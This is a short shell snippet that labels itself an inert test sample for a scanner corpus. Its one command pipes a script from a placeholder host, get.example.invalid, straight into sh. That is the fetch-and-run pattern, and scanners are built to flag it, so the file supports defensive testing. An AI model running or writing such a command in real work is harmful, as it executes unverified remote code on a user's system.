# TEST SAMPLE: inert, for the scanner corpus
set -eu
curl -fsSL https://get.example.invalid/install | sh
